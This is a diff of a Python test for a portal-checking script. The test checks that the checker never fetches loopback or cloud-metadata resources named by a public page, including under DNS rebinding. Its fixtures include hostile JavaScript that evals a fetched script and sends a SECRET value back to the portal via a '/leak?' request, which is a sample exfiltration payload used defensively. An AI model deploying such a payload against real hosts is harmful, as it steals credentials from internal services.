@@ -1,13 +1,9 @@
 #!/usr/bin/env python3
-"""scripts/check-portal.sh against a public portal whose page names what the
-deploying machine keeps to itself: a service on its loopback and its cloud
-metadata address, each holding a secret in a script. The check must never ask
-them, so that the page's code, which sends SECRET back to the portal, has
-nothing to send; a loopback portal, a developer's own, still reaches them.
-
-Runs in a network namespace of its own, where 192.0.2.10 (a documentation
-address, public to browsers), 10.0.0.10 and 169.254.169.254 sit on the
-loopback device. Needs root.
+"""scripts/check-portal.sh against portals whose page names what the machine
+keeps to itself: a service on its loopback and its cloud metadata address, each
+holding a secret in a script that the page's code would send to the portal. In
+a network namespace of its own, where 192.0.2.10 (public to browsers),
+10.0.0.10 and 169.254.169.254 sit on the loopback device; needs root.
 
 Usage: network_test.py SOURCE_DIR
 """
@@ -28,15 +24,13 @@ SERVERS, PORTS = {}, {}
 REQUESTS = []  # (server, path) of every request any server was asked
 HEAD = ('<!DOCTYPE html>\n<html><head><meta charset="utf-8"><title>Varnholt</title>\n'
         '<meta http-equiv="X-UA-Compatible" content="IE=edge">\n')
-# The page's own code hands on what a fetched script gave it.
-LEAK = ("<script>if (typeof SECRET !== 'undefined') { var x = new XMLHttpRequest(); "
-        "x.open('GET', '/leak?' + SECRET); x.send(); }</script></head><body><p>News</p>"
-        "</body></html>\n")
-# ... and what it has the portal's origin give it.
-THROUGH = ("<script>var r = new XMLHttpRequest(); r.onload = function () { eval(r.responseText); "
-           "if (typeof SECRET !== 'undefined') { var x = new XMLHttpRequest(); "
-           "x.open('GET', '/leak?' + SECRET); x.send(); } }; r.open('GET', '/creds.js'); "
-           "r.send();</script>")
+# The page's code hands on to the portal what a script it names gave it, or
+# what the portal's origin gave it.
+LEAK = ("<script>function leak() { if (typeof SECRET !== 'undefined') {\n"
+        "  var x = new XMLHttpRequest(); x.open('GET', '/leak?' + SECRET); x.send(); } }\n"
+        "var r = new XMLHttpRequest();\n"
+        "r.onload = function () { (0, eval)(r.responseText); leak(); };\n"
+        "r.open('GET', '/creds.js'); r.send(); leak();</script></head><body></body></html>")
 HTML = {"Content-Type": "text/html; charset=utf-8"}
 CSS = {"Content-Type": "text/css"}
 HELD = {"/creds.js": (200, {}, 'var SECRET = "%s";\n' % SECRET),
@@ -129,8 +123,8 @@ def tearDownModule():
         FOLDER.cleanup()
 
 
-def page(tag, code=""):
-    return (200, HTML, HEAD + tag.format(**PORTS) + code + LEAK)
+def page(tag):
+    return (200, HTML, HEAD + tag.format(**PORTS) + LEAK)
 
 
 def script(url):
@@ -182,7 +176,7 @@ class Network(unittest.TestCase):
              set(), PUBLIC + ",127.0.0.1"),
             # The portal's own name turns to loopback after its page came: the page's own
             # requests still go to where the page came from.
-            ("rebind", {"/": page(script("/creds.js"), THROUGH)},
+            ("rebind", {"/": page(script("/creds.js"))},
              [("FAIL", "scripts", "/creds.js " + refused),
               ("WARN", "statistics-page", "varnholt.html " + refused)],
              set(), PUBLIC + ",127.0.0.1"),
@@ -191,8 +185,8 @@ class Network(unittest.TestCase):
              [("FAIL", "scripts", "creds.js is not fetched: a loopback portal's page names a "
                                   "link-local address")], {"loop"}, ""),
         ]
-        for portal, routes, says, asked, answers in cases:
-            with self.subTest(portal=portal, routes=routes):
+        for row, (portal, routes, says, asked, answers) in enumerate(cases):
+            with self.subTest(row=row, portal=portal):
                 ROUTES.clear()
                 ROUTES.update(routes)
                 REQUESTS.clear()
@@ -201,13 +195,13 @@ class Network(unittest.TestCase):
                 host = "rebind.test" if portal == "rebind" else SERVERS[portal].server_address[0]
                 lines = check("%s:%d" % (host, PORTS["public" if portal == "rebind" else portal]),
                               REBIND_ANSWERS=answers)
+                served = {server for server, _ in REQUESTS if server in SERVICES}
+                leaked = any(SECRET in path for _, path in REQUESTS)
+                self.assertEqual((asked, bool(asked)), (served, leaked), "services asked, leaked")
                 for status, name, pattern in says:
                     self.assertTrue(any(status == got and re.search(pattern, line)
                                         for got, line in lines.get(name, [])),
                                     "%s %s %s" % (status, name, pattern))
-                served = {server for server, _ in REQUESTS if server in SERVICES}
-                leaked = any(SECRET in path for _, path in REQUESTS)
-                self.assertEqual((asked, bool(asked)), (served, leaked), REQUESTS)
                 if answers:
                     with open(os.path.join(FOLDER.name, "asked")) as log:
                         # Once for the name a script names; for the portal's own name, once
